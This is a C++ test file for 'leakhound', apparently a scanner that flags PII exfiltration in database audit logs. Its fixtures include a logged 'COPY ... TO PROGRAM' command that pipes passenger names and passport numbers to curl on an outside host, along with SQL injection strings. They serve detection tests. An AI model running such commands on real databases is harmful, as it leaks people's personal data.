// The leakhound command end to end: exit codes, bad input counted and reported with line
// numbers and reasons, dead-lettering, rule-pack diagnostics, profiles, privacy.
#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include <regex>

#include "support/test_support.h"

namespace leakhound {
namespace {

using ::leakhound::testing::ReadFile;
using ::leakhound::testing::RunLeakhound;
using ::leakhound::testing::SourcePath;
using ::leakhound::testing::SplitLines;
using ::leakhound::testing::TempDir;
using ::leakhound::testing::TempFile;
using ::testing::HasSubstr;
using ::testing::Not;

constexpr char kBulkRead[] =
    R"({"time":"2026-03-10T23:00:00Z","principal":"mallory","statement":"COPY passengers TO STDOUT"})";

int CountSubstrings(const std::string& text, const std::string& needle) {
  int count = 0;
  for (size_t pos = text.find(needle); pos != std::string::npos; pos = text.find(needle, pos + 1)) {
    ++count;
  }
  return count;
}

TEST(CliTest, VersionAndHelp) {
  const auto version = RunLeakhound({"--version"});
  EXPECT_EQ(version.exit_code, 0);
  EXPECT_THAT(version.out, HasSubstr("leakhound 0.1.0"));
  const auto help = RunLeakhound({"--help"});
  EXPECT_EQ(help.exit_code, 0);
  EXPECT_THAT(help.out, HasSubstr("scan"));
  EXPECT_THAT(help.out, HasSubstr("rules"));
  const auto scan_help = RunLeakhound({"scan", "--help"});
  EXPECT_THAT(scan_help.out, HasSubstr("Exit codes"));
  EXPECT_THAT(scan_help.out, HasSubstr("--dead-letter"));
}

TEST(CliTest, UnknownOptionIsAUsageError) {
  const auto result = RunLeakhound({"scan", "--no-such-option"});
  EXPECT_EQ(result.exit_code, 2);
  EXPECT_THAT(result.err, HasSubstr("--no-such-option"));
}

TEST(CliTest, ScansStdinWithTheEmbeddedPack) {
  const auto result =
      RunLeakhound({"scan", "--fixed-time", "2026-06-01T00:00:00Z"}, std::string(kBulkRead) + "\n");
  EXPECT_EQ(result.exit_code, 0) << result.err;
  const auto lines = SplitLines(result.out);
  ASSERT_EQ(lines.size(), 1u) << result.out;
  EXPECT_THAT(lines[0], HasSubstr(R"("rule":{"id":"LH-0005")"));
  EXPECT_THAT(lines[0], HasSubstr(R"("sources":[{"file":"-","line":1}])"));
  EXPECT_THAT(lines[0], HasSubstr(R"("detection_time":"2026-06-01T00:00:00Z")"));
  EXPECT_THAT(result.err, HasSubstr("1 records"));
}

TEST(CliTest, FailOnDetectionSetsExitCodeOne) {
  EXPECT_EQ(
      RunLeakhound({"scan", "-q", "--fail-on-detection"}, std::string(kBulkRead) + "\n").exit_code,
      1);
  const std::string benign = R"({"principal":"alice","statement":"select 1"})"
                             "\n";
  EXPECT_EQ(RunLeakhound({"scan", "-q", "--fail-on-detection"}, benign).exit_code, 0);
}

// Every kind of bad record is counted and reported with its line and reason; the valid
// records around them are still scanned.
TEST(CliTest, BadRecordsAreCountedReportedAndDeadLettered) {
  std::string input;
  input += std::string(kBulkRead) + "\n";  // 1 ok
  input += "this is not json\n";           // 2
  input += R"({"principal":"x","statement":"select * from passen)"
           "\n";                                                         // 3 truncated
  input += "{\"principal\":\"\xff\xfe\",\"statement\":\"select 1\"}\n";  // 4 bad UTF-8
  input += R"({"principal":"x"})"
           "\n";  // 5 no statement
  input += R"({"principal":"x","statement":"select 1","rows":{"n":1}})"
           "\n";  // 6 wrong type
  input += "\n";  // 7 empty
  const std::string huge = R"({"principal":"x","statement":")" + std::string(10 << 20, 'a') + "\"}";
  input += huge + "\n";                    // 8
  input += "42\n";                         // 9 scalar
  input += std::string(kBulkRead) + "\n";  // 10 ok
  TempFile file(input, ".ndjson");
  TempDir dir;
  const std::string dead_letter = dir.path() + "/rejected.ndjson";
  const auto result = RunLeakhound({"scan", "--dead-letter", dead_letter, file.path()});
  EXPECT_EQ(result.exit_code, 0) << result.err;
  EXPECT_EQ(SplitLines(result.out).size(), 2u);  // both valid COPY records detected
  const std::string& err = result.err;
  EXPECT_THAT(err, HasSubstr(":2: rejected (not_json)"));
  EXPECT_THAT(err, HasSubstr(":3: rejected (truncated)"));
  EXPECT_THAT(err, HasSubstr(":4: rejected (invalid_utf8)"));
  EXPECT_THAT(err, HasSubstr(":5: rejected (missing_field): no statement at /statement"));
  EXPECT_THAT(
      err, HasSubstr(":6: rejected (wrong_type): field /rows: expected a number, found an object"));
  EXPECT_THAT(err, HasSubstr(":7: rejected (empty)"));
  EXPECT_THAT(err, HasSubstr(":8: rejected (too_large): record of " + std::to_string(huge.size()) +
                             " bytes exceeds --max-record-bytes 1048576"));
  EXPECT_THAT(err, HasSubstr(":9: rejected (not_an_object)"));
  EXPECT_THAT(err, HasSubstr("10 records"));
  EXPECT_THAT(
      err,
      HasSubstr(
          "2 events, 8 rejected [empty 1, too_large 1, not_json 1, truncated 1, invalid_utf8 1, "
          "not_an_object 1, missing_field 1, wrong_type 1]"));

  const auto rejected = SplitLines(ReadFile(dead_letter));
  ASSERT_EQ(rejected.size(), 8u);
  EXPECT_THAT(rejected[0], HasSubstr(R"("line":2,"reason":"not_json")"));
  EXPECT_THAT(rejected[0], HasSubstr(R"("record":"this is not json")"));
  EXPECT_THAT(rejected[6], HasSubstr(R"("line":8,"reason":"too_large")"));
  EXPECT_THAT(rejected[6], Not(HasSubstr(R"("record")")));  // too large to keep
}

TEST(CliTest, UnreadableInputIsExitThreeAndTheOthersAreScanned) {
  TempFile good(std::string(kBulkRead) + "\n", ".ndjson");
  const auto result = RunLeakhound({"scan", "/nonexistent/audit.ndjson", good.path()});
  EXPECT_EQ(result.exit_code, 3);
  EXPECT_THAT(result.err, HasSubstr("cannot open /nonexistent/audit.ndjson"));
  EXPECT_EQ(SplitLines(result.out).size(), 1u);
}

// The bar: a rule file with five distinct errors gets all five, each with file:line:col.
TEST(CliTest, RuleFileWithFiveErrorsReportsAllFive) {
  TempDir pack;
  pack.Write("lists/service_accounts.txt", "svc_etl\n");
  const std::string rule_file = pack.Write("bad.yaml", R"(id: LH-9001
title: Five mistakes
severity: high
match:
  statement: {any: ['(?<=select) \*']}
  where:
    prinicpal: alice
    application: {in: servce_accounts}
threshold: {count: true, gte: 10, window: 10 minutes}
---
id: LH-9001
title: Same id again
severity: low
match:
  statement: {any: ['\bselect\b']}
)");
  const auto result = RunLeakhound({"rules", "lint", pack.path()});
  EXPECT_EQ(result.exit_code, 1);
  EXPECT_EQ(CountSubstrings(result.err, ": error: "), 5) << result.err;
  EXPECT_THAT(
      result.err,
      HasSubstr(
          rule_file +
          ":5:21: error: [LH-9001] bad pattern '(?<=select) \\*': Zero-width assertions are not "
          "supported."));
  EXPECT_THAT(result.err,
              HasSubstr(rule_file + ":7:5: error: [LH-9001] unknown field 'prinicpal'; did you "
                                    "mean 'principal'?"));
  EXPECT_THAT(result.err,
              HasSubstr(rule_file + ":8:23: error: [LH-9001] unknown list 'servce_accounts'; did "
                                    "you mean 'service_accounts'?"));
  EXPECT_THAT(
      result.err,
      HasSubstr(rule_file + ":9:43: error: [LH-9001] bad window: bad duration '10 minutes'"));
  EXPECT_THAT(result.err,
              HasSubstr(rule_file + ":11:5: error: [LH-9001] duplicate rule id; first defined at " +
                        rule_file + ":1:1"));
  EXPECT_THAT(result.err, HasSubstr("5 errors"));
}

TEST(CliTest, ScanRefusesABrokenPackBeforeReadingInput) {
  TempDir pack;
  pack.Write("r.yaml", "id: X-1\ntitle: t\nseverity: nope\nmatch: {where: {rows: {gte: 1}}}\n");
  const auto result = RunLeakhound({"scan", "--rules", pack.path()}, std::string(kBulkRead) + "\n");
  EXPECT_EQ(result.exit_code, 2);
  EXPECT_THAT(result.err, HasSubstr("r.yaml:3:11: error: [X-1] severity 'nope'"));
  EXPECT_EQ(result.out, "");
}

TEST(CliTest, RulesTestReportsAndExplainsAFailingTest) {
  TempDir pack;
  pack.Write("r.yaml", R"(id: T-1
title: Big reads
severity: low
match:
  where: {rows: {gte: 1000}}
tests:
  - name: wrong expectation
    events: [{principal: a, statement: "select 1", rows: 10}]
    expect: {fires: 1}
)");
  const auto result = RunLeakhound({"rules", "test", pack.path()});
  EXPECT_EQ(result.exit_code, 1);
  EXPECT_THAT(result.out, HasSubstr("FAIL T-1 \"wrong expectation\""));
  EXPECT_THAT(result.out, HasSubstr("expected 1 detection, got 0"));
  EXPECT_THAT(result.out, HasSubstr("[ ] rows gte 1000 (rows = 10)"));
  EXPECT_THAT(result.out, HasSubstr("0 passed, 1 failed, 1 rules"));
}

TEST(CliTest, ShippedPackLintsCleanAndItsTestsPass) {
  const auto lint = RunLeakhound({"rules", "lint", "--strict", SourcePath("rules")});
  EXPECT_EQ(lint.exit_code, 0) << lint.err;
  EXPECT_THAT(lint.out, HasSubstr("20 rules"));
  EXPECT_THAT(lint.out, HasSubstr(" of 100000 positions, "));  // the pattern budget's use
  const auto test = RunLeakhound({"rules", "test"});
  EXPECT_EQ(test.exit_code, 0) << test.out;
  EXPECT_THAT(test.out, HasSubstr(" passed, 0 failed, 20 rules"));
}

TEST(CliTest, ProfileMapsAnotherJsonSchema) {
  TempFile profile(R"(decoder: json
fields:
  time: /timestamp
  principal: /user
  database: /dbname
  client: /remote_host
  statement: /query/text
  rows: /stats/rows_sent
)",
                   ".yaml");
  const std::string record =
      R"({"timestamp":"2026-03-10 23:00:00.123 GMT","user":"mallory","dbname":"booking",)"
      R"("remote_host":"172.16.8.40","query":{"text":"SELECT /*!40001 SQL_NO_CACHE */ * FROM `customers`"},)"
      R"("stats":{"rows_sent":"500000"}})"
      "\n";
  const auto result = RunLeakhound({"scan", "--profile", profile.path()}, record);
  EXPECT_EQ(result.exit_code, 0) << result.err;
  EXPECT_THAT(result.out, HasSubstr(R"("rule":{"id":"LH-0008")"));
  EXPECT_THAT(result.out, HasSubstr(R"("principal":"mallory","client":"172.16.8.40")"));
  EXPECT_THAT(result.out, HasSubstr(R"("rows":500000)"));
  EXPECT_THAT(result.out, HasSubstr(R"("event_time":"2026-03-10T23:00:00.123Z")"));
}

TEST(CliTest, PgJsonlogProfileReadsPgauditEntries) {
  TempFile profile("decoder: pg-jsonlog\n", ".yaml");
  // A PostgreSQL 15 jsonlog line with a pgaudit SESSION entry (ROWS on), and a line that
  // is no audit entry (skipped, not rejected).
  const std::string input =
      R"({"timestamp":"2026-03-10 22:40:00.120 GMT","user":"mallory","dbname":"booking",)"
      R"("remote_host":"172.16.8.40","application_name":"psql","session_id":"65f1.2a",)"
      R"("error_severity":"LOG","message":"AUDIT: SESSION,7,1,READ,COPY,,,\"COPY (SELECT )"
      R"(full_name, passport_no FROM public.passengers) TO PROGRAM 'curl -T - https://x'\",)"
      R"(<none>,412000"})"
      "\n"
      R"({"timestamp":"2026-03-10 22:41:00 GMT","user":"mallory","message":"connection authorized"})"
      "\n";
  const auto result =
      RunLeakhound({"scan", "--profile", profile.path(), "--format", "text", "-"}, input);
  EXPECT_EQ(result.exit_code, 0) << result.err;
  EXPECT_EQ(result.out,
            "2026-03-10T22:40:00.120Z critical LH-0005 mallory@172.16.8.40: PII table exported "
            "with COPY ... TO | copy (select full_name, passport_no from public.passengers) to "
            "program ?\n"
            "2026-03-10T22:40:00.120Z high     LH-0014 mallory@172.16.8.40: Burst of PII rows "
            "read by one principal (10 minutes) [sum rows 412000 >= 50000 in 10m, 1 event] | copy "
            "(select full_name, passport_no from public.passengers) to program ?\n"
            "2026-03-10T22:40:00.120Z high     LH-0015 mallory@172.16.8.40: PII rows read by one "
            "principal beyond the hourly budget [sum rows 412000 >= 200000 in 1h, 1 event] | copy "
            "(select full_name, passport_no from public.passengers) to program ?\n"
            "2026-03-10T22:40:00.120Z medium   LH-0016 mallory@172.16.8.40: Bulk read of PII at "
            "night [count 1 >= 1 in 1h, 1 event] | copy (select full_name, passport_no from "
            "public.passengers) to program ?\n"
            // 412,000 rows of a name (weight 2) and a passport number (10).
            "2026-03-10T22:40:00.120Z high     LH-0018 mallory@172.16.8.40: PII exposure by one "
            "principal beyond the burst budget [sum pii_weight 4944000 >= 2000000 in 10m, 1 "
            "event] | copy (select full_name, passport_no from public.passengers) to program ?\n");
  EXPECT_THAT(result.err, HasSubstr("2 records"));
  EXPECT_THAT(result.err, HasSubstr("1 events, 1 not queries (skipped), 0 rejected"));
}

TEST(CliTest, BadProfileIsRefusedWithItsPosition) {
  TempFile profile("decoder: json\nfields:\n  principle: /user\n", ".yaml");
  const auto result = RunLeakhound({"scan", "--profile", profile.path()}, "");
  EXPECT_EQ(result.exit_code, 2);
  EXPECT_THAT(result.err,
              HasSubstr(profile.path() + ":3:3: error: unknown field 'principle'; did you mean "
                                         "'principal'?"));
}

// No literal from a statement reaches a detection: e-mail addresses, passport and card
// numbers appear only as '?' in the fingerprint.
TEST(CliTest, DetectionsCarryNoStatementLiterals) {
  const std::string input =
      R"({"principal":"mallory","statement":"SELECT * FROM customers WHERE email = 'victim@example.com' OR 1=1"})"
      "\n"
      R"({"principal":"mallory","statement":"select full_name from passengers where passport_no in ('X1234567', 'Y7654321') or '1'='1'"})"
      "\n"
      R"({"principal":"mallory","statement":"SELECT TO_BASE64(card_number) FROM payment_cards WHERE card_number LIKE \"4111111111111111\""})"
      "\n";
  const auto result = RunLeakhound({"scan"}, input);
  EXPECT_EQ(SplitLines(result.out).size(), 3u) << result.out << result.err;
  for (const char* secret : {"victim@example.com", "X1234567", "Y7654321", "4111111111111111"}) {
    EXPECT_THAT(result.out, Not(HasSubstr(secret))) << secret;
  }
  EXPECT_THAT(result.out, HasSubstr("where email = ? or ?=?"));
  EXPECT_THAT(result.out, HasSubstr("passport_no in (?+)"));
}

TEST(CliTest, ExplainShowsEachCondition) {
  const auto result =
      RunLeakhound({"rules", "explain", "--rule", "LH-0005", "-"}, std::string(kBulkRead) + "\n");
  EXPECT_EQ(result.exit_code, 0) << result.err;
  EXPECT_THAT(result.out, HasSubstr("fingerprint: copy passengers to stdout"));
  EXPECT_THAT(result.out, HasSubstr("[x] any: COPY (matches)"));
  EXPECT_THAT(result.out, HasSubstr("[x] copy_to equals true (copy_to = true)"));
}

}  // namespace
}  // namespace leakhound
